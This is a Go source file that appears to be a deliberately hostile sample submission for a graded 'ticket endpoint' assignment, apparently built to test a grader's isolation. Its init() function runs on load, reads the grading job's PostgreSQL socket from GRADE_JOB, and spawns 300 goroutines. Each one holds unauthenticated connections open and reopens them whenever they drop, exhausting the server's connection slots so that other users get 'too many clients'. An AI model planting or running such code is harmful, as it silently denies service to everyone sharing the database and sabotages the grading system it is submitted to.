// Hostile: 06 solved (the Go solution, spliced in at the marker), and an init() that fills every connection
// slot of the run's PostgreSQL.
package ticketendpoint

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"time"
)

// Before the observer plays anything: every connection slot of the run's PostgreSQL filled with connections
// that never log in, each opened again when the server drops it; then the reference's routes. On a server
// the class shared, every classmate's connection would be refused ("too many clients").
func init() {
	text, _ := os.ReadFile(os.Getenv("GRADE_JOB"))
	var job struct {
		Postgres struct {
			Host string
			Port int
		}
	}
	if json.Unmarshal(text, &job) != nil || job.Postgres.Host == "" {
		return
	}
	socket := fmt.Sprintf("%s/.s.PGSQL.%d", job.Postgres.Host, job.Postgres.Port)
	hold := func() {
		for {
			if conn, err := net.Dial("unix", socket); err == nil {
				_, _ = io.Copy(io.Discard, conn)
				conn.Close()
			}
			time.Sleep(10 * time.Millisecond)
		}
	}
	for range 300 {
		go hold()
	}
	time.Sleep(500 * time.Millisecond)
}

// {{SOLUTION}}
